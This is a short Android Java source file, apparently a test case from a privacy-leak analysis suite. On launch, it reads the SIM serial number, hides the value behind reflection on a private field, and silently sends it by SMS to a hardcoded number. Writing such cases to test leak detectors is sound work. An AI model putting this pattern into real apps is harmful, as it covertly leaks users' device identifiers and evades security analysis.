package cn.privlens.suite.field_read;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Field;

public class Main extends Activity {
    static class Vault {
        private String sim = "";
        private String word = "w";
        void fill(Context c) { sim = ((TelephonyManager) c.getSystemService(Context.TELEPHONY_SERVICE)).getSimSerialNumber(); }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Vault v = new Vault();
        v.fill(this);
        try {
            Field f = Vault.class.getDeclaredField("sim");
            f.setAccessible(true);
            SmsManager.getDefault().sendTextMessage("10690000", null, (String) f.get(v), null, null);
        } catch (ReflectiveOperationException e) {
            setTitle("e");
        }
    }
}
